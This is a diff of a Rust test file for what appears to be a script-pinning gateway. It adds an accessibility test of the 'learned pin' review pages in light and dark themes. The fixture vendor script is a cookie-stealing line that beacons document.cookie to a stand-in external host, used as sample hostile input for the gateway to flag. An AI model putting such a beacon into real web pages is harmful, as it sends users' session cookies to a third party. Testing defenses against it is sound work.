@@ -9,6 +9,7 @@ use serde_json::Value;
 use crate::admission::PASSWORD;
 use crate::console::with_reviewers;
 use crate::console_pages::SHOWN;
+use crate::learned_pins::taught;
 use crate::trial::{ten, with_ten};
 use crate::{REVIEWED, TAMPERED, pinning, vendor_of, verified};
 
@@ -179,6 +180,28 @@ async fn no_page_breaks_a_rule_of_wcag_2_2_aa_in_chromium_in_either_theme() {
             browser.open(&format!("{origin}{page}")).await;
             broken(&browser, &axe, page).await;
         }
+        browser.quit().await;
+    }
+}
+
+#[tokio::test]
+async fn the_page_of_a_learned_pin_breaks_no_rule_of_wcag_2_2_aa_in_chromium_in_either_theme() {
+    let vendor = vendor_of("navigator.sendBeacon('https://collect.other.test/', document.cookie);").await;
+    let rule = Rule::default().set("unpinned", "learn");
+    let gateway = taught(with_reviewers(gateway().rule(&vendor, rule)), &vendor.url("/app.js")).await;
+    let axe = axe();
+    for dark in [false, true] {
+        let (browser, origin) = signed_in(&gateway, Looks { dark, ..Looks::default() }).await;
+        browser.open(&format!("{origin}/pins?from=learned")).await;
+        broken(&browser, &axe, "learned pins").await;
+        browser.clicks("ol.queue h2 a").await;
+        broken(&browser, &axe, "learned").await;
+        browser.types("approve-reason", "SEC-1").await;
+        browser.types("password", "not hers").await;
+        browser.clicks("button.go").await;
+        broken(&browser, &axe, "learned, refused").await;
+        browser.open(&format!("{origin}/pins/learned/1/nothing")).await;
+        broken(&browser, &axe, "nothing").await;
         browser.quit().await;
     }
 }
